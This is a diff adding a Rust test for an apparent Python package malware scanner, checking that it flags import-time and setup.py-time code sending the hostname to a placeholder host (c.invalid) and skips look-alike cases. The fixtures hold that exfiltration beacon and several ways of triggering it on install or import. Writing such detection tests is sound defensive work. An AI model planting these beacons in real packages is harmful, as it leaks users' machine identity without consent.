@@ -807,3 +807,85 @@ fn merge_names_an_input_that_is_not_json() {
         assert!(!dir.path().join("merged.json").exists());
     }
 }
+
+#[test]
+fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_time_code() {
+    let dir = repo();
+    // The beacon is in a function of a module beside the entry file, which calls it at import
+    // time: by a relative import, through a module it imports, by a thread, from `setup.py`
+    // by the package's own name, and one module further on.
+    let beacon = "import socket, urllib.request\ndef run():\n    \
+                  urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n\
+                  def unused():\n    \
+                  urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n";
+    write(dir.path(), "a/pkg/__init__.py", "from .core import run\nrun()\n");
+    write(dir.path(), "a/pkg/core.py", beacon);
+    write(dir.path(), "b/pkg/__init__.py", "from . import core\ncore.run()\n");
+    write(dir.path(), "b/pkg/core.py", beacon);
+    write(
+        dir.path(),
+        "c/pkg/__init__.py",
+        "import threading\nfrom .core import run\nthreading.Thread(target=run).start()\n",
+    );
+    write(dir.path(), "c/pkg/core.py", beacon);
+    write(
+        dir.path(),
+        "d/setup.py",
+        "from setuptools import setup\nfrom tool.hooks import run\nrun()\nsetup(name='tool')\n",
+    );
+    write(dir.path(), "d/tool/__init__.py", "");
+    write(dir.path(), "d/tool/hooks.py", beacon);
+    write(dir.path(), "e/pkg/__init__.py", "from ._boot import start\nstart()\n");
+    write(dir.path(), "e/pkg/_boot.py", "from .core import run\ndef start():\n    run()\n");
+    write(dir.path(), "e/pkg/core.py", beacon);
+    // Look-alikes: the function is only imported, or called from a function of the entry
+    // file that nothing calls, or the module is imported by an ordinary module.
+    write(dir.path(), "f/pkg/__init__.py", "from .core import run\n__all__ = ['run']\n");
+    write(dir.path(), "f/pkg/core.py", beacon);
+    write(dir.path(), "g/pkg/__init__.py", "from .core import run\ndef main():\n    run()\n");
+    write(dir.path(), "g/pkg/core.py", beacon);
+    write(dir.path(), "h/pkg/__init__.py", "");
+    write(dir.path(), "h/pkg/cli.py", "from .core import run\nrun()\n");
+    write(dir.path(), "h/pkg/core.py", beacon);
+    let sdist: Vec<(String, Vec<u8>)> = ["setup.py", "tool/__init__.py", "tool/hooks.py"]
+        .iter()
+        .map(|m| (format!("tool-1.0/{m}"), std::fs::read(dir.path().join("d").join(m)).unwrap()))
+        .collect();
+    let members: Vec<(&str, &[u8])> =
+        sdist.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
+    make_sdist(&dir.path().join("tool-1.0.tar.gz"), &members, &[]);
+    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "tool-1.0.tar.gz"];
+    let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(paths).output().unwrap();
+    let doc = json(&out);
+    let expected = [
+        "a/pkg/core.py",
+        "b/pkg/core.py",
+        "c/pkg/core.py",
+        "d/tool/hooks.py",
+        "e/pkg/core.py",
+        "tool-1.0.tar.gz!/tool-1.0/tool/hooks.py",
+    ];
+    assert_eq!(paths_with(&doc, "host-identity-exfiltration"), expected, "{doc}");
+    // Only the function the entry file runs, at the send's own line.
+    let lines: Vec<u64> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["name"] == "host-identity-exfiltration")
+        .map(|f| f["line"].as_u64().unwrap())
+        .collect();
+    assert!(lines.iter().all(|l| *l == 3), "{doc}");
+    // In repository mode the entry files come from the cache the second time, with what they
+    // call: the same findings.
+    for _ in 0..2 {
+        let out = pysbx(dir.path()).args(["scan", "--format", "json", "a", "e"]).output().unwrap();
+        let doc = json(&out);
+        assert_eq!(
+            paths_with(&doc, "host-identity-exfiltration"),
+            ["a/pkg/core.py", "e/pkg/core.py"],
+            "{doc}"
+        );
+    }
+    let again = pysbx(dir.path()).args(["scan", "--format", "json", "a", "e"]).output().unwrap();
+    assert!(json(&again)["stats"]["cached"].as_u64().unwrap() >= 5, "{}", json(&again));
+}
